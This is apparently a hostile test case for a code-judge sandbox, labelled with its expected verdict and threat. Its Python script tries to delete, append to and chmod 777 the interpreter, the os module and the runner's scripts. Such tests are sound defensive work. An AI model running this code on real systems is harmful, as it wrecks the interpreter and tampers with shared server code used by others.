# verdict: wrong_answer|runtime_error ; mode: stdin ; threat: changes the interpreter and the server's code for those who come after
import glob
import os
import sys

done = []
for path in [os.__file__, sys.executable or "/usr/local/bin/python3", *glob.glob("/opt/runner/*/*.py")]:
    for act in (lambda p: open(p, "a").close(), os.unlink, lambda p: os.chmod(p, 0o777)):
        try:
            act(path)
            done.append(path)
        except OSError:
            pass
print("CHANGED", done)
